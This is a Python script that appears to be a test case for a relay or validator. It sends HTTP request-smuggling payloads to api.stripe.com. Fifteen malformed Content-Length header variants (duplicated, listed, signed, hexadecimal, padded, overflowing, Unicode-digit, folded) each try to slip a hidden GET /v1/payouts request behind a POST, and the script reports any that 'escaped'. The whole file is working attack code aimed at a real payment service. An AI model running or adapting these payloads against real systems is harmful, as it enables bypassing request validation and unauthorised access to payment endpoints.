# attack: two Content-Length headers, or one that is signed, listed, hexadecimal or padded, are read in two ways by two servers
# expect: broker
# validator: refused
import socket
import ssl


def speak(text, wait=0.15):
    """All that the relay says to these bytes on one connection."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(wait)
        answer = b""
        try:
            tls.sendall(text)
            while piece := tls.recv(65536):
                answer += piece
        except OSError:
            pass
        return answer


SECOND = b"GET /v1/payouts HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n"
BODY = b"name=a"
FIRST = b"POST /v1/customers HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Type: application/x-www-form-urlencoded\r\n"
LENGTHS = {
    "two": b"Content-Length: 6\r\nContent-Length: %d\r\n" % (6 + len(SECOND)),
    "list": b"Content-Length: 6, %d\r\n" % (6 + len(SECOND)),
    "list of the same": b"Content-Length: 6, 6\r\n",
    "plus": b"Content-Length: +6\r\n",
    "minus": b"Content-Length: -6\r\n",
    "zeros": b"Content-Length: 0006\r\n",
    "hexadecimal": b"Content-Length: 0x6\r\n",
    "underscore": b"Content-Length: 0_6\r\n",
    "exponent": b"Content-Length: 6e0\r\n",
    "too many digits": b"Content-Length: 18446744073709551622\r\n",
    "arabic digits": "Content-Length: \u0666\r\n".encode(),
    "vertical tab": b"Content-Length:\x0b6\r\n",
    "empty": b"Content-Length:\r\n",
    "other spelling": b"Content_Length: %d\r\nContent-Length: 6\r\n" % (6 + len(SECOND)),
    "folded": b"Content-Length:\r\n 6\r\n",
}
for name, lengths in LENGTHS.items():
    answer = speak(FIRST + lengths + b"\r\n" + BODY + SECOND)
    print(name, answer[:30], answer.count(b"HTTP/1.1 "))
    if b'"target": "/v1/payouts"' in answer:
        print("ESCAPED: the second request went through:", name, flush=True)
    if b'"content_length"' in answer:
        print("ESCAPED: a second length was sent on:", name, flush=True)
